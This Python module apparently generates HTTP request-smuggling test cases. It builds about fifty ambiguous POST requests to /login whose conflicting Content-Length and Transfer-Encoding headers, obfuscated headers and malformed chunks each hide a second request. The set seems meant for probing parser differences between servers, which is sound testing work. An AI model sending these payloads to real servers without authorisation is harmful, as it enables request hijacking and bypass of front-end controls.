"""Requests that two servers may read differently: each hides a request for a pixel in an ambiguous body.

The kinds are those of RFC 9112 (6.1, 6.3, 7.1, 11.2) and of public collections of request smuggling.
"""

from __future__ import annotations

_BOTH = "Content-Length: {length}"


def cases(host: str, hidden: str) -> dict[str, bytes]:
    """Ambiguous requests by name; `hidden` is the head of the request that they hide, with its empty line."""
    ended = f"0\r\n\r\n{hidden}"
    framed = {
        "length and chunks": (f"{_BOTH}\r\nTransfer-Encoding: chunked", ended),
        "chunks and length": (f"Transfer-Encoding: chunked\r\n{_BOTH}", ended),
        "xchunked": (f"{_BOTH}\r\nTransfer-Encoding: xchunked", ended),
        "space before the colon": (f"{_BOTH}\r\nTransfer-Encoding : chunked", ended),
        "tab before the colon": (f"{_BOTH}\r\nTransfer-Encoding\t: chunked", ended),
        "tab before the value": (f"{_BOTH}\r\nTransfer-Encoding:\tchunked", ended),
        "vertical tab": (f"{_BOTH}\r\nTransfer-Encoding: \x0bchunked", ended),
        "form feed": (f"{_BOTH}\r\nTransfer-Encoding: \x0cchunked", ended),
        "NUL": (f"{_BOTH}\r\nTransfer-Encoding: chunked\0", ended),
        "folded line": (f"{_BOTH}\r\nTransfer-Encoding:\r\n chunked", ended),
        "folded line before": (f"X: y\r\n Transfer-Encoding: chunked\r\n{_BOTH}", ended),
        "bare LF": (f"{_BOTH}\r\nX: y\nTransfer-Encoding: chunked", ended),
        "bare CR": (f"{_BOTH}\r\nX: y\rTransfer-Encoding: chunked", ended),
        "underscore": (f"{_BOTH}\r\nTransfer_Encoding: chunked", ended),
        "upper case": (f"{_BOTH}\r\nTransfer-Encoding: CHUNKED", ended),
        "quoted": (f'{_BOTH}\r\nTransfer-Encoding: "chunked"', ended),
        "with a parameter": (f"{_BOTH}\r\nTransfer-Encoding: chunked;x=y", ended),
        "leading comma": (f"{_BOTH}\r\nTransfer-Encoding: , chunked", ended),
        "trailing comma": (f"{_BOTH}\r\nTransfer-Encoding: chunked,", ended),
        "identity": (f"{_BOTH}\r\nTransfer-Encoding: identity", ended),
        "chunked twice": (f"{_BOTH}\r\nTransfer-Encoding: chunked, chunked", ended),
        "two lines": (f"{_BOTH}\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked", ended),
        "not the last": (f"{_BOTH}\r\nTransfer-Encoding: chunked, gzip", ended),
        "empty": (f"{_BOTH}\r\nTransfer-Encoding:", ended),
        "two lengths": (f"Content-Length: 0\r\n{_BOTH}", hidden),
        "two lengths, the shorter last": (f"{_BOTH}\r\nContent-Length: 0", hidden),
        "lengths with a comma": ("Content-Length: 0, {length}", hidden),
        "negative length": ("Content-Length: -0", hidden),
        "length with plus": ("Content-Length: +0", hidden),
        "hexadecimal length": ("Content-Length: 0x0", hidden),
        "length with underscore": ("Content-Length: 0_0", hidden),
        "length with a space": ("Content-Length: 0 0", hidden),
        "length that overflows": ("Content-Length: 18446744073709551616", hidden),
        "length with a space before the colon": ("Content-Length : 0", hidden),
        "empty length": ("Content-Length:", hidden),
        "length on a folded line": ("Content-Length:\r\n 0", hidden),
        "hidden in an extension": ("Transfer-Encoding: chunked", f"0;\n\r\n\r\n{hidden}"),
        "extension that ends with LF": ("Transfer-Encoding: chunked", f"2;\nxx\r\n0\r\n\r\n{hidden}"),
        "chunk that ends with LF": ("Transfer-Encoding: chunked", f"1\r\nx\n0\r\n\r\n{hidden}"),
        "size that ends with LF": ("Transfer-Encoding: chunked", f"0\n\n{hidden}"),
        "size that ends with CR": ("Transfer-Encoding: chunked", f"0\r\r{hidden}"),
        "hexadecimal size": ("Transfer-Encoding: chunked", f"0x0\r\n\r\n{hidden}"),
        "negative size": ("Transfer-Encoding: chunked", f"-0\r\n\r\n{hidden}"),
        "size with plus": ("Transfer-Encoding: chunked", f"+0\r\n\r\n{hidden}"),
        "size with a space": ("Transfer-Encoding: chunked", f" 0\r\n\r\n{hidden}"),
        "size that overflows": ("Transfer-Encoding: chunked", f"10000000000000000\r\n\r\n{hidden}"),
        "chunk that is longer": ("Transfer-Encoding: chunked", f"1\r\nxyz\r\n0\r\n\r\n{hidden}"),
        "chunk without an end": ("Transfer-Encoding: chunked", f"1\r\nx0\r\n\r\n{hidden}"),
    }
    made = {
        name: _request(f"POST /login HTTP/1.1\r\nHost: {host}", lines, body)
        for name, (lines, body) in framed.items()
    }
    made["chunks in HTTP/1.0"] = _request(
        f"POST /login HTTP/1.0\r\nHost: {host}\r\nConnection: keep-alive",
        f"Transfer-Encoding: chunked\r\n{_BOTH}",
        ended,
    )
    return made


def _request(start: str, lines: str, body: str) -> bytes:
    kind = "Content-Type: application/x-www-form-urlencoded"
    head = f"{start}\r\n{kind}\r\n{lines.format(length=len(body))}\r\n\r\n"
    return (head + body).encode("latin-1")
